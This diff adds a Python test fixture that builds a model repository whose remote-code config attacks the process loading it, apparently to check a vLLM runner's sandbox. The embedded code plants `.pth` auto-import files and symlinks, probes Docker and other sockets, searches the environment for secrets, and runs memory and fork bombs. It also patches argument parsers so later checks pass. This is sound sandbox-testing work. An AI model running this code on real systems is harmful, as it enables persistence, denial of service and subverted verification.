@@ -1,0 +1,174 @@
+"""A model repository whose remote code (`--trust-remote-code`) attacks whatever runs it: the config
+tier's helper and `vllm serve` both load it. Which attacks, and where, its config.json says
+(`driftmatrix_attacks`, `driftmatrix_where`); what each found is printed to stderr as
+`HOSTILE-REPORT {json}` (the runner's log of that process), the only way out it has.
+
+Only ever run where the sandbox is proven active, with a scratch folder as working directory
+(tests/runner/test_hostile.py checks both first)."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from pathlib import Path
+
+REMOTE_CODE = r'''
+import json, os, socket, sys, time
+from transformers import Qwen3Config
+
+CFG = json.loads(__SETTINGS__)  # transformers runs a copy of this file from its module cache
+ATTACKS, WHERE, HOST = CFG["driftmatrix_attacks"], CFG["driftmatrix_where"], CFG["driftmatrix_host"]
+MAIN = getattr(sys.modules.get("__main__"), "__file__", "") or ""
+IN_HELPER = MAIN.endswith("vllm_helper.py")
+IN_SERVER = not IN_HELPER and any(a == "serve" for a in sys.argv) or "EngineCore" in " ".join(sys.argv)
+
+
+def report(**found):  # to fd 2 itself: the helper catches sys.stderr while it answers
+    os.write(2, ("HOSTILE-REPORT " + json.dumps({"pid": os.getpid(), "helper": IN_HELPER, **found}) + "\n").encode())
+
+
+def writable_places():
+    """Every folder this process might write: its own, the runner's (given by the test), the caches."""
+    places = {"/", "/tmp", "/dev/shm", os.environ.get("HOME", "/"), os.getcwd(), os.path.dirname(__file__),
+              os.environ.get("VLLM_CACHE_ROOT", "/tmp"), os.environ.get("TORCHINDUCTOR_CACHE_DIR", "/tmp"),
+              "/tmp/torchinductor_sandbox", sys.prefix, *HOST["folders"]}
+    for p in list(sys.path):
+        if p.endswith("site-packages"):
+            places.add(p)
+    return sorted(places)
+
+
+def plant():
+    planted = []
+    for folder in writable_places():
+        for name, make in (("dm-planted-link", lambda p: os.symlink(HOST["home"], p)),
+                           ("dm-planted.pth", lambda p: open(p, "w").write("import os; open('/tmp/DM-PWNED', 'w')\n")),
+                           ("logs", lambda p: os.symlink(HOST["home"], p))):
+            path = os.path.join(folder, name)
+            try:
+                make(path)
+                planted.append(path)
+            except OSError:
+                pass
+    report(attack="plant", planted=planted)
+
+
+def sockets():
+    reached = []
+    for path in [*HOST["sockets"], "/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket",
+                 "/run/containerd/containerd.sock"]:
+        s = socket.socket(socket.AF_UNIX)
+        try:
+            s.connect(path)
+            reached.append(path)
+        except OSError:
+            pass
+        finally:
+            s.close()
+    for name in HOST["abstract"]:
+        s = socket.socket(socket.AF_UNIX)
+        try:
+            s.connect("\0" + name)
+            reached.append("@" + name)
+        except OSError:
+            pass
+        finally:
+            s.close()
+    try:
+        socket.create_connection(("127.0.0.1", HOST["port"]), timeout=3).close()
+        reached.append(f"127.0.0.1:{HOST['port']}")
+    except OSError:
+        pass
+    secrets = [k for k, v in os.environ.items() if any(c in v for c in HOST["canaries"])]
+    home = os.path.exists(HOST["home_secret"])
+    report(attack="sockets", reached=reached, secrets=secrets, home_secret_visible=home,
+           proc=sorted(p for p in os.listdir("/proc") if p.isdigit()))
+
+
+def big_file():
+    try:
+        with open("/tmp/dm-big", "wb") as fh:
+            for _ in range(HOST["file_mib"] + 16):
+                fh.write(b"x" * 2**20)
+        report(attack="fsize", written=True)
+    except OSError as err:
+        report(attack="fsize", written=False, error=str(err))
+    try:
+        os.remove("/tmp/dm-big")
+    except OSError:
+        pass
+
+
+def memory():
+    hog = []
+    while True:
+        hog.append(bytearray(64 * 2**20))
+
+
+def fork_bomb():
+    """A light bomb (a fresh interpreter without vLLM forks fast), and this process waits on it."""
+    import subprocess
+    bomb = "import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.01)\n"
+    subprocess.Popen([sys.executable, "-S", "-c", bomb]).wait()
+
+
+def half_line():
+    proto = getattr(sys.modules.get("__main__"), "PROTO", None)
+    if proto is not None:
+        proto.write('{"id": 1, "ok": tr')
+        proto.flush()
+        time.sleep(3600)
+
+
+def change_verdicts():
+    """Make every later command of this helper pass: vLLM's own parser accepts anything."""
+    import argparse
+    argparse.ArgumentParser.error = lambda self, message: None
+    import vllm.utils.argparse_utils as au
+    original = au.FlexibleArgumentParser.parse_args
+    def lenient(self, args=None, namespace=None):
+        args = [a for a in (args or []) if not a.startswith("--no-such")]
+        return original(self, args, namespace)
+    au.FlexibleArgumentParser.parse_args = lenient
+    report(attack="verdict", patched=True)
+
+
+ACTIONS = {"plant": plant, "sockets": sockets, "fsize": big_file, "memory": memory, "fork": fork_bomb,
+           "halfline": half_line, "verdict": change_verdicts}
+if (WHERE == "helper" and IN_HELPER) or (WHERE == "server" and IN_SERVER) or WHERE == "both":
+    if not os.environ.get("DM_HOSTILE_DONE"):
+        os.environ["DM_HOSTILE_DONE"] = "1"  # once per process (the config is loaded more than once)
+        for name in ATTACKS:
+            ACTIONS[name]()
+        if IN_SERVER and CFG.get("driftmatrix_fail_server"):
+            os._exit(3)  # done attacking: no need to wait for the whole start
+
+
+class HostileConfig(Qwen3Config):
+    model_type = "qwen3"
+'''
+
+
+def make(twin: Path, dest: Path, attacks: list[str], where: str, host: dict, fail_server: bool = True) -> Path:
+    """A copy of the tiny twin `twin` at `dest` whose remote code runs `attacks` in the helper, the
+    server or both; `host` tells it the runner's folders, sockets, ports and canaries to go after."""
+    shutil.copytree(twin, dest)
+    settings = {"driftmatrix_attacks": attacks, "driftmatrix_where": where, "driftmatrix_host": host,
+                "driftmatrix_fail_server": fail_server}
+    (dest / "configuration_hostile.py").write_text(REMOTE_CODE.replace("__SETTINGS__", repr(json.dumps(settings))))
+    config = json.loads((dest / "config.json").read_text())
+    config["auto_map"] = {"AutoConfig": "configuration_hostile.HostileConfig"}
+    (dest / "config.json").write_text(json.dumps(config))
+    return dest
+
+
+def reports(text: str) -> list[dict]:
+    found = []
+    for line in text.splitlines():
+        _, marker, rest = line.partition("HOSTILE-REPORT ")
+        if marker:
+            try:
+                found.append(json.loads(rest))
+            except ValueError:
+                pass
+    return found
